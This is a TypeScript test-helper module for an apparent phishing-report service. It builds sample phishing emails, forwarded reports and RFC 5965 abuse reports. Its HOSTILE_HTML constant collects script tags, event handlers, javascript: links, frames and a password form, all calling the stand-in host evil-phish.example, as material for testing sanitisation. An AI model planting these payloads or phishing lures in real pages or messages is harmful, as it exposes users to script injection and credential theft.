import { randomBytes } from 'node:crypto';
import type { FastifyInstance } from 'fastify';
import type { Page } from 'playwright-core';
import type { ManualClock, TestClient } from '../platform/testing/app.js';
import { signedInClient } from '../platform/testing/factories.js';

/** Messages and reports for tests: built in code, so no fixture files are kept. */

export interface PhishOptions {
  from?: string;
  subject?: string;
  url?: string;
  messageId?: string;
  authResults?: string;
  html?: string;
  text?: string;
  /** Line ending of the whole message. */
  eol?: '\r\n' | '\n';
}

/** A phishing-like message: headers, a text part and an HTML part with a link. */
export function phishMessage(o: PhishOptions = {}): Buffer {
  const eol = o.eol ?? '\r\n';
  const url = o.url ?? 'https://login.evil-phish.example/verify?id=42';
  const b = `alt-${randomBytes(6).toString('hex')}`;
  const lines = [
    `Return-Path: <bounce@evil-phish.example>`,
    `Received: from mail.evil-phish.example (mail.evil-phish.example [203.0.113.9]) by mx.postwarden.test with ESMTP id abc; Mon, 2 Mar 2026 10:00:00 +0000`,
    ...(o.authResults ? [`Authentication-Results: ${o.authResults}`] : []),
    `From: "IT Service Desk" <${o.from ?? 'helpdesk@evil-phish.example'}>`,
    `Reply-To: <collect@drop.example>`,
    `To: <victim@trust.example>`,
    `Subject: ${o.subject ?? 'Your mailbox is full: verify your account 12345'}`,
    `Date: Mon, 2 Mar 2026 10:00:00 +0000`,
    `Message-ID: ${o.messageId ?? `<${randomBytes(8).toString('hex')}@evil-phish.example>`}`,
    `MIME-Version: 1.0`,
    `Content-Type: multipart/alternative; boundary="${b}"`,
    ``,
    `--${b}`,
    `Content-Type: text/plain; charset=utf-8`,
    ``,
    o.text ?? `Your mailbox is full. Verify now: ${url}`,
    `--${b}`,
    `Content-Type: text/html; charset=utf-8`,
    ``,
    o.html ?? `<p>Your mailbox is full. <a href="${url}">Verify now</a></p>`,
    `--${b}--`,
    ``,
  ];
  return Buffer.from(lines.join(eol), 'utf8');
}

export interface Attached {
  bytes: Buffer;
  /** How the part is written: base64, or the bytes as they are (8bit). */
  encoding?: 'base64' | '8bit';
  contentType?: string;
  filename?: string;
}

/** A report: the reporter's note plus each sample attached (message/rfc822 by default). */
export function reportWith(attached: readonly Attached[], o: { from?: string; to?: string; note?: string } = {}): Buffer {
  const b = `rep-${randomBytes(12).toString('hex')}`;
  const head = [
    `From: <${o.from ?? 'reporter@trust.example'}>`,
    `To: <${o.to ?? 'spamreports@postwarden.test'}>`,
    `Subject: FW: suspicious`,
    `Date: Mon, 2 Mar 2026 11:00:00 +0000`,
    `Message-ID: <${randomBytes(8).toString('hex')}@trust.example>`,
    `MIME-Version: 1.0`,
    `Content-Type: multipart/mixed; boundary="${b}"`,
    ``,
    `--${b}`,
    `Content-Type: text/plain; charset=utf-8`,
    ``,
    o.note ?? 'This looks like phishing.',
  ].join('\r\n');
  const parts: Buffer[] = [Buffer.from(head + '\r\n')];
  for (const a of attached) {
    const type = a.contentType ?? 'message/rfc822';
    const enc = a.encoding ?? 'base64';
    const disp = a.filename ? `Content-Disposition: attachment; filename="${a.filename}"\r\n` : 'Content-Disposition: attachment\r\n';
    parts.push(Buffer.from(`--${b}\r\nContent-Type: ${type}\r\n${disp}Content-Transfer-Encoding: ${enc}\r\n\r\n`));
    parts.push(enc === 'base64' ? Buffer.from(a.bytes.toString('base64').replace(/.{76}/g, '$&\r\n')) : a.bytes);
    parts.push(Buffer.from('\r\n'));
  }
  parts.push(Buffer.from(`--${b}--\r\n`));
  return Buffer.concat(parts);
}

/** A report forwarded inline: no attachment, the original headers lost. */
export function inlineForward(o: { from?: string; phishFrom?: string; subject?: string; url?: string } = {}): Buffer {
  return Buffer.from([
    `From: <${o.from ?? 'reporter@trust.example'}>`,
    `To: <spamreports@postwarden.test>`,
    `Subject: Fwd: ${o.subject ?? 'Urgent invoice'}`,
    `Date: Mon, 2 Mar 2026 11:00:00 +0000`,
    `Content-Type: text/plain; charset=utf-8`,
    ``,
    `Is this real?`,
    ``,
    `---------- Forwarded message ---------`,
    `From: Accounts <${o.phishFrom ?? 'billing@invoice-fraud.example'}>`,
    `Date: Mon, 2 Mar 2026 09:00:00 +0000`,
    `Subject: ${o.subject ?? 'Urgent invoice'}`,
    `To: <reporter@trust.example>`,
    ``,
    `Pay here: ${o.url ?? 'https://pay.invoice-fraud.example/now'}`,
    ``,
  ].join('\r\n'));
}

/** An RFC 5965 report carrying a sample. */
export function arfReport(sample: Buffer): Buffer {
  const b = `arf-${randomBytes(6).toString('hex')}`;
  return Buffer.concat([
    Buffer.from([
      'From: <abuse@isp.example>', 'To: <spamreports@postwarden.test>', 'Subject: FW: abuse report', 'MIME-Version: 1.0',
      `Content-Type: multipart/report; report-type=feedback-report; boundary="${b}"`, '',
      `--${b}`, 'Content-Type: text/plain', '', 'An abuse report.',
      `--${b}`, 'Content-Type: message/feedback-report', '', 'Feedback-Type: fraud', 'User-Agent: Test/1', 'Version: 1', 'Source-IP: 203.0.113.9', '',
      `--${b}`, 'Content-Type: message/rfc822', '', '',
    ].join('\r\n')),
    sample,
    Buffer.from(`\r\n--${b}--\r\n`),
  ]);
}

/** HTML that tries every trick: scripts, handlers, remote images, CSS loads, refresh, frames, forms. */
export const HOSTILE_HTML = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil-phish.example/refresh">
<base href="https://evil-phish.example/">
<link rel="stylesheet" href="https://evil-phish.example/style.css">
<style>@import url("https://evil-phish.example/import.css"); body { background: url(https://evil-phish.example/bg.png) }</style>
<script>window.top.postMessage('pwned-script','*'); fetch('https://evil-phish.example/xhr')</script>
</head><body onload="fetch('https://evil-phish.example/onload')">
<h1 style="background-image:url('https://evil-phish.example/inline.png')">Account suspended</h1>
<p>Click <a href="https://login.evil-phish.example/verify" onclick="fetch('https://evil-phish.example/click')">here</a> to verify.</p>
<img src="https://evil-phish.example/pixel.gif" alt="tracker" onerror="fetch('https://evil-phish.example/onerror')">
<img src=x onerror="document.title='pwned'">
<svg onload="fetch('https://evil-phish.example/svg')"><image href="https://evil-phish.example/svg.png"/></svg>
<iframe src="https://evil-phish.example/frame"></iframe>
<object data="https://evil-phish.example/object"></object>
<form action="https://evil-phish.example/post"><input name="password" value="x"><button>Go</button></form>
<video poster="https://evil-phish.example/poster.png" src="https://evil-phish.example/v.mp4"></video>
<div style="width:10px;height:10px;background:url(//evil-phish.example/protocol-relative.png)">x</div>
<table background="https://evil-phish.example/table.png"><tr><td>cell</td></tr></table>
<a href="javascript:fetch('https://evil-phish.example/js')">js link</a>
</body></html>`;

/**
 * Signs in like signedInClient, then postpones any first-sign-in prompt (security
 * questions) the way a person would, so the client lands on ordinary pages.
 */
export async function signedInAndReady(app: FastifyInstance, clock: ManualClock, email: string): Promise<TestClient> {
  const c = await signedInClient(app, clock, email);
  const home = await c.get('/');
  const to = String(home.headers.location ?? '');
  if (home.status === 303 && to.startsWith('/security/questions')) {
    const r = await c.post('/security/questions/later', {}, { csrfFrom: to });
    if (r.status !== 303) throw new Error(`could not postpone the security-questions prompt (status ${r.status})`);
  }
  return c;
}

/** In a browser: postpones the first-sign-in prompt if the page shows it. */
export async function postponePrompts(page: Page): Promise<void> {
  if (new URL(page.url()).pathname !== '/security/questions') return;
  await Promise.all([page.waitForURL((u) => u.pathname !== '/security/questions'), page.locator('#questions-later').click()]);
}
